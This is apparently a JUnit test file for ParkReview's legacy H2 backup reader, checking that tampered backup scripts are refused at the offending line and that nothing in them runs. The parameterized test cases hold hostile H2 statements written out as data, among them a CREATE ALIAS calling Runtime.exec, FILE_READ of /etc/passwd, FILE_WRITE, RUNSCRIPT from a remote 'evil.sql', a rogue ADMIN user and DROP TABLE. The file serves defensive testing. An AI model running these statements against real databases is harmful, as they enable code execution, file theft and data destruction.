package com.parkreview.app.persistence.legacy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.parkreview.app.persistence.legacy.LegacyScriptReader.Limits;
import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A backup edited to run something when restored (RUNSCRIPT ran whatever it held) is refused as a
 * whole, at the line where it leaves the shape of ParkReview's own backups.
 */
class LegacyScriptRefusalTest {

    /** Fourteen lines as H2 writes them; each case adds from line 15. */
    static final String GENUINE = """
            -- H2 2.5.252;\s
            SET WRITE_DELAY 0;            \s
            ;             \s
            CREATE USER IF NOT EXISTS "PARKREVIEW" SALT '2cc18a5f131b98f4' HASH '6d66b391' ADMIN;
            CREATE CACHED TABLE "PUBLIC"."SESSION_TIER"(
                "SESSION_ID" BIGINT NOT NULL,
                "CODE" CHARACTER VARYING(30) NOT NULL,
                "LABEL" CHARACTER VARYING(30) NOT NULL,
                "MIN_SCORE" DECIMAL(6, 2) NOT NULL,
                "SHARE" DECIMAL(5, 4) NOT NULL
            );
            -- 1 +/- SELECT COUNT(*) FROM PUBLIC.SESSION_TIER;
            INSERT INTO "PUBLIC"."SESSION_TIER" VALUES
            (1, 'A', U&'\\4f18\\79c0', 85.00, 0.3000);
            """;

    static final String LOB_DECLARED = """
            CREATE CACHED LOCAL TEMPORARY TABLE IF NOT EXISTS SYSTEM_LOB_STREAM(ID INT NOT NULL, PART INT NOT NULL, CDATA VARCHAR, BDATA VARBINARY);
            ALTER TABLE SYSTEM_LOB_STREAM ADD CONSTRAINT SYSTEM_LOB_STREAM_PRIMARY_KEY PRIMARY KEY(ID, PART);
            CREATE ALIAS IF NOT EXISTS SYSTEM_COMBINE_CLOB FOR 'org.h2.command.dml.ScriptCommand.combineClob';
            CREATE ALIAS IF NOT EXISTS SYSTEM_COMBINE_BLOB FOR 'org.h2.command.dml.ScriptCommand.combineBlob';
            """;

    static final String ROWS = "INSERT INTO \"PUBLIC\".\"SESSION_TIER\" VALUES\n";

    /** A row of SESSION_TIER on line 16 with this in its third column. */
    private static Arguments inRow(String value, String problem) {
        return Arguments.of(ROWS + "(1, 'B', " + value + ", 1.00, 0.1000);\n", 16, problem);
    }

    static Stream<Arguments> hostile() {
        return Stream.of(
                Arguments.of("CALL FILE_WRITE(STRINGTOUTF8('x'), '/tmp/parkreview-evil');\n", 15, "legacy.statement"),
                Arguments.of(ROWS + "(1, FILE_WRITE('x', '/tmp/parkreview-evil'), 'c', 1.00, 0.1000);\n", 16, "legacy.function"),
                inRow("\"FILE_READ\"('/etc/passwd')", "legacy.function"),
                inRow("SYSTEM_COMBINE_BLOB(0)", "legacy.function"),
                inRow("DATE FILE_READ('/etc/passwd')", "legacy.expected"),
                inRow("'x' || 'y'", "legacy.expected"),
                inRow("$$x$$", "legacy.character"),
                Arguments.of("CREATE ALIAS EXEC AS $$ String exec(String c) throws Exception {\n"
                        + " Runtime.getRuntime().exec(c); return c; } $$;\nCALL EXEC('touch /tmp/x');\n", 15, "legacy.statement"),
                Arguments.of("CREATE ALIAS IF NOT EXISTS SYSTEM_COMBINE_CLOB FOR 'java.lang.Runtime.exec';\n", 15, "legacy.statement"),
                Arguments.of("CREATE ALIAS IF NOT EXISTS\nSYSTEM_COMBINE_CLOB AS $$ String f() { return \"\"; } $$;\n", 16, "legacy.statement"),
                Arguments.of("RUNSCRIPT FROM 'https://example.org/evil.sql';\n", 15, "legacy.statement"),
                Arguments.of("SET WRITE_DELAY 0;\nSET EXCLUSIVE 1;\n", 16, "legacy.statement"),
                Arguments.of("CREATE TRIGGER T BEFORE INSERT ON \"PUBLIC\".\"SESSION_TIER\" CALL 'Evil';\n", 15, "legacy.statement"),
                Arguments.of("CREATE USER \"EVIL\" PASSWORD 'x' ADMIN;\n", 15, "legacy.statement"),
                Arguments.of("GRANT ALL ON SCHEMA PUBLIC TO PUBLIC;\n", 15, "legacy.statement"),
                Arguments.of("DROP TABLE \"PUBLIC\".\"SESSION_TIER\";\n", 15, "legacy.statement"),
                Arguments.of("DROP TABLE IF EXISTS \"PUBLIC\".\"SESSION_TIER\";\n", 15, "legacy.statement"),
                Arguments.of("DROP TABLE IF EXISTS;\n", 15, "legacy.statement"),
                Arguments.of("ALTER TABLE \"PUBLIC\".\"SESSION_TIER\" DROP COLUMN \"CODE\";\n", 15, "legacy.expected"),
                Arguments.of("CREATE CACHED TABLE \"PUBLIC\".\"EVIL\"(\n\"X\" INT);\n", 15, "legacy.table"),
                Arguments.of("CREATE CACHED TABLE \"INFORMATION_SCHEMA\".\"USERS\"(\"X\" INT);\n", 15, "legacy.expected"),
                Arguments.of("CREATE CACHED TABLE \"PUBLIC\".\"SESSION_TIER\"(\"X\" INT);\n", 15, "legacy.tableTwice"),
                Arguments.of("CREATE CACHED TABLE \"PUBLIC\".\"APPLICANT\"(\"ID\" INT, \"Id\" INT);\n", 15, "legacy.columnTwice"),
                Arguments.of("INSERT INTO \"PUBLIC\".\"APPLICANT\" VALUES (1);\n", 15, "legacy.tableMissing"),
                Arguments.of("INSERT INTO \"PUBLIC\".\"SESSION_TIER\" SELECT * FROM \"PUBLIC\".\"SESSION_TIER\";\n", 15, "legacy.expected"),
                Arguments.of(ROWS + "(1, 'B', 'b', 1.00, 0.1000),\n(2, 'C', 'c', 1.00);\n", 17, "legacy.valueCount"),
                Arguments.of(ROWS + "(1, 'B', 'b', 1.00, 0.1000, 'extra');\n", 16, "legacy.valueCount"),
                Arguments.of("INSERT INTO \"PUBLIC\".\"SESSION_TIER\"(\"SESSION_ID\",\n\"PASSWORD\") VALUES (1, 2);\n", 16, "legacy.columnUnknown"),
                Arguments.of("INSERT INTO \"PUBLIC\".\"SESSION_TIER\"(\"SESSION_ID\") VALUES (1);\n", 15, "legacy.columnMissing"),
                Arguments.of(ROWS + "(1, 'never closed, 1.00, 0.1000);\n-- the rest of the file\n", 16, "legacy.stringUnterminated"),
                Arguments.of("CREATE INDEX \"PUBLIC\".\"never closed ON x;\n", 15, "legacy.nameUnterminated"),
                Arguments.of("/* outer\n /* inner */ still outer */\n", 16, "legacy.commentNested"),
                Arguments.of("/* never closed\n\n", 15, "legacy.commentUnterminated"),
                Arguments.of(ROWS + "(1, 'B', 'b', 1.00, 0.1000)\n", 17, "legacy.expected"),
                Arguments.of("CREATE INDEX \"PUBLIC\".\"I\" ON \"PUBLIC\".\"SESSION_TIER\"(\"CODE\")\n", 16, "legacy.end"),
                inRow("DATE '2026-02-30'", "legacy.literal"),
                inRow("UUID '1-1-1-1-1'", "legacy.literal"),
                Arguments.of(ROWS + "(1, 'B', 'b', 1E5, 0.1000);\n", 16, "legacy.number"),
                inRow("U&'\\zzzz'", "legacy.escape"),
                inRow("SYSTEM_COMBINE_CLOB(0)", "legacy.lobOrder"),
                Arguments.of(LOB_DECLARED + ROWS + "(1, 'B', SYSTEM_COMBINE_CLOB(7), 1.00, 0.1000);\n", 20, "legacy.lob"),
                Arguments.of(LOB_DECLARED + "INSERT INTO SYSTEM_LOB_STREAM VALUES(0, 1, 'x', NULL);\n", 19, "legacy.lobPart"),
                Arguments.of(LOB_DECLARED + "INSERT INTO SYSTEM_LOB_STREAM VALUES(0, 0, 'x', X'00');\n", 19, "legacy.expected"));
    }

    @ParameterizedTest(name = "[{index}] line {1}: {2}")
    @MethodSource("hostile")
    void hostileScriptIsRefusedAtItsLine(String added, int line, String problem) {
        LegacyScriptException e = assertThrows(LegacyScriptException.class,
                () -> LegacyScriptReader.parse(new StringReader(GENUINE + added), Limits.DEFAULTS));
        assertEquals(problem, e.problem().key(), e.getMessage());
        assertEquals(line, e.line(), e.getMessage());
        assertTrue(e.message(Locale.ENGLISH).startsWith("The old backup cannot be restored: line " + line + ": "), e.getMessage());
        assertTrue(e.message(Locale.CHINESE).startsWith("无法恢复旧版备份：第 " + line + " 行："), e.message(Locale.CHINESE));
        assertFalse(e.message(Locale.CHINESE).contains("legacy."), e.message(Locale.CHINESE));
    }

    @Test
    void theGenuineBeginningOfEveryCaseIsTaken() throws Exception {
        LegacyBackup read = LegacyScriptReader.parse(new StringReader(GENUINE + LOB_DECLARED), Limits.DEFAULTS);
        assertEquals(1, read.tables().get("session_tier").rows().size());
    }

    @Test
    void nothingTheScriptAsksForIsDone(@TempDir Path dir) {
        Path target = dir.resolve("written-by-the-script");
        String script = GENUINE + "CALL FILE_WRITE(STRINGTOUTF8('x'), '" + target + "');\n";
        assertThrows(LegacyScriptException.class, () -> LegacyScriptReader.parse(new StringReader(script), Limits.DEFAULTS));
        assertFalse(Files.exists(target));
    }

    @Test
    void statementRefusedIsNamedInTheMessage() {
        LegacyScriptException e = assertThrows(LegacyScriptException.class, () -> LegacyScriptReader.parse(
                new StringReader(GENUINE + "CREATE ALIAS EXEC AS $$ x $$;\n"), Limits.DEFAULTS));
        assertEquals("The old backup cannot be restored: line 15: the statement CREATE ALIAS EXEC is not part of a "
                + "ParkReview backup; nothing in the file was run.", e.message(Locale.ENGLISH));
        assertEquals("无法恢复旧版备份：第 15 行：语句 CREATE ALIAS EXEC 不属于 ParkReview 备份；文件中的任何内容都没有被执行。",
                e.message(Locale.CHINESE));
    }
}
